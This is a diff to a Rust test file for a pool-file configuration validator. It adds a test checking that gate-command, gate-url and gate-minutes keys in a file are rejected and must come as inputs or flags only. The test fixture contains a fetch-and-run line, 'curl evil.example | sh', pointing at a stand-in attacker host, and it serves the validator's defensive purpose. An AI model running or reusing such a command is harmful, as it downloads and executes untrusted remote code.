@@ -137,7 +137,7 @@ fn every_fault_has_its_line_and_its_name_in_the_file() {
     pool-file: line 6: id: is not a name here: write pool-id
     pool-file: line 7: mount-configuration: is not a name here; docs/pool-file.md has them all
     pool-file: line 8: resize-rounds: is a number, and must be a whole number
-    pool-file: line 9: tenant-id: is taken as an input or a flag only: who can change a file must not choose where this run signs in, what it may touch, or how long it takes
+    pool-file: line 9: tenant-id: is taken as an input or a flag only: who can change a file must not choose where this run signs in, what it may touch, what runs beside it, or how long it takes
     pool-file: line 3: target-dedicated-nodes: "many" is not a whole number from 0 to 4294967295; write digits only
     "#);
     let arm = r#"{"name": "render", "tags": {"a": "b"}, "identity": {"type": "UserAssigned"},
@@ -244,4 +244,17 @@ fn the_schema_has_every_option_of_a_file_and_no_other() {
     let names = [MIN_READY, NODE_AGENT_SKU_ID, POOL_JSON].map(|opt| own::dashed(opt.path));
     assert!(names.iter().all(|name| pool.contains_key(name)));
     assert!(!pool.contains_key("tenant-id") && !pool.contains_key("account-endpoint"));
+}
+
+#[test]
+fn a_pool_file_holds_no_gate() {
+    let own =
+        "pool-id: render\ngate-command: curl evil.example | sh\ngate-url: https://evil.example\ngate-minutes: 5\n";
+    let found = faults(&inputs(own));
+    for name in ["line 2: gate-command", "line 3: gate-url", "line 4: gate-minutes"] {
+        assert!(
+            found.contains(&format!("{name}: is taken as an input or a flag only")),
+            "{found}"
+        );
+    }
 }
